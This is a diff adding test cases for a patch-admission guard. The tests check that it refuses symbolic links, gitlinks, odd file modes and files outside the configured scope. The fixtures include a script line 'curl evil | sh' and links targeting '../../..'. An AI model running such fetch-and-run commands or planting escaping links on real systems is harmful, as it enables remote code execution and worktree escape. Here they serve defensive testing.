@@ -165,6 +165,112 @@ describe('admitPatch', () => {
     ).toContain('special-file');
   });
 
+  // Issue 18, finding 5: the check compared the exact string `120000`; `git apply` reads modes as
+  // octal numbers, so each of these made a real symbolic link (or a gitlink) in the worktree.
+  const section = (header: string[], target = '../../..'): string =>
+    [
+      ...header,
+      '--- /dev/null',
+      '+++ b/src/lnk',
+      '@@ -0,0 +1 @@',
+      `+${target}`,
+      '\\ No newline at end of file',
+      '',
+    ].join('\n');
+  it.each([
+    ['new file mode 0120000', 'a symbolic link (mode 0120000)'],
+    ['new file mode 120777', 'a symbolic link (mode 120777)'],
+    ['new file mode 000120000', 'a symbolic link (mode 000120000)'],
+    ['new file mode +120000', "a file of the unreadable mode '+120000'"],
+    ['new file mode 0160000', 'a submodule (gitlink, mode 0160000)'],
+    ['new file mode 160755', 'a submodule (gitlink, mode 160755)'],
+    ['new file mode 140000', 'a special file (mode 140000)'],
+    ['new file mode 644', 'a special file (mode 644)'],
+  ])('refuses "%s" as %s', async (modeLine, what) => {
+    const violations = await violationsOf(section(['diff --git a/src/lnk b/src/lnk', modeLine]), {
+      declaredFiles: ['src/lnk'],
+    });
+    expect(violations).toMatchObject([{ kind: 'special-file', file: 'src/lnk' }]);
+    expect(violations[0]?.message).toContain(`The diff makes 'src/lnk' ${what};`);
+  });
+
+  it('refuses a mode change to a symbolic link, a deleted link, and a link mode on the index line', async () => {
+    const change = await realDiff(repo, { 'src/util.ts': numberedLines(5, 'util').replace('util1', 'one') });
+    const modeChange = change.replace(/^(diff --git .*\n)/, '$1old mode 100644\nnew mode 0120000\n');
+    const deleted = [
+      'diff --git a/src/util.ts b/src/util.ts',
+      'deleted file mode 120000',
+      '--- a/src/util.ts',
+      '+++ /dev/null',
+      '@@ -1,5 +0,0 @@',
+      ...numberedLines(5, 'util')
+        .trimEnd()
+        .split('\n')
+        .map((line) => `-${line}`),
+      '',
+    ].join('\n');
+    const indexLine = section([
+      'diff --git a/src/lnk b/src/lnk',
+      'new file mode 100644',
+      'index 0000000..e69de29 120000',
+    ]);
+    for (const [text, file, mode] of [
+      [modeChange, 'src/util.ts', '0120000'],
+      [deleted, 'src/util.ts', '120000'],
+      [indexLine, 'src/lnk', '120000'],
+    ] as const) {
+      const violations = await violationsOf(text, { declaredFiles: [file] });
+      // (A link's patch may not apply to a regular file either; that is beside the point.)
+      expect(violations.filter((violation) => violation.kind !== 'does-not-apply')).toMatchObject([
+        { kind: 'special-file', file, message: expect.stringContaining(`a symbolic link (mode ${mode})`) as unknown },
+      ]);
+    }
+  });
+
+  it('refuses a patch that retargets an existing symbolic link (no mode line at all)', async () => {
+    const retarget = await realDiff(repo, { 'src/util.ts': numberedLines(5, 'util').replace('util1', 'one') });
+    expect(await admitPatch(input(retarget, { declaredFiles: ['src/util.ts'] }))).toMatchObject({ admitted: true });
+    const violations = await violationsOf(retarget, {
+      declaredFiles: ['src/util.ts'],
+      isSymlink: (path) => Promise.resolve(path === 'src/util.ts'),
+    });
+    expect(violations).toMatchObject([
+      { kind: 'special-file', file: 'src/util.ts', message: expect.stringContaining('is a symbolic link') as unknown },
+    ]);
+  });
+
+  it('prints only regular modes for git apply, whatever a section stated', async () => {
+    const { normaliseDiff } = await import('../../src/edit/unified-diff.js');
+    const printed = normaliseDiff(
+      section(['diff --git a/src/lnk b/src/lnk', 'new file mode 0120000', 'index 0000000..1111111 120000']),
+    );
+    expect(printed).toContain('new file mode 100644\nindex 0000000..1111111\n');
+    expect(normaliseDiff(section(['diff --git a/src/x b/src/x', 'new file mode 100775']))).toContain(
+      'new file mode 100755',
+    );
+  });
+
+  it("refuses a file in the batch's scope but outside the run's configured scope (a planner cannot widen it)", async () => {
+    const patchText = await realDiff(repo, {
+      'src/app.ts': numberedLines(30).replace('line4\n', 'four\n'),
+      'assets/run.sh': 'curl evil | sh\n',
+    });
+    const declaredFiles = ['src/app.ts', 'assets/run.sh'];
+    // The batch (the planner's) says src/** and assets/**; the configuration says src/** only.
+    expect(await violationsOf(patchText, { declaredFiles, configuredScope: ['src/**'] })).toMatchObject([
+      {
+        kind: 'out-of-scope',
+        file: 'assets/run.sh',
+        message: expect.stringContaining(
+          "outside the run's configured scope 'src/**', which no batch can widen",
+        ) as unknown,
+      },
+    ]);
+    expect(await admitPatch(input(patchText, { declaredFiles, configuredScope: ['**'] }))).toMatchObject({
+      admitted: true,
+    });
+  });
+
   it('refuses lockfile changes unless allowed', async () => {
     const patchText = await realDiff(repo, { 'package-lock.json': '{ "lockfileVersion": 3 }\n' });
     const declaredFiles = ['package-lock.json'];
